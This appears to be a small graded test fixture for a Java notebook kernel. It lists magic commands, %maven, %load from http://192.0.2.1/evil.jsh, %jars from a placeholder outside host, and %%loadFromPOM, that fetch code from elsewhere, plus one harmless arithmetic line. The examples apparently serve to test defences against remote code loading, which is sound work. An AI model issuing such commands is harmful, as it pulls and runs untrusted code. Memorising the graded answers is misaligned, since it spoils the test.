// What it is: right answers, and commands to the kernel that would fetch code from elsewhere
// Outcome: graded
// new cell: magics after softmax
%maven org.example:evil:1.0
%load http://192.0.2.1/evil.jsh
%jars @OUTSIDE@/evil.jar
%%loadFromPOM
int one = 7 % 3;
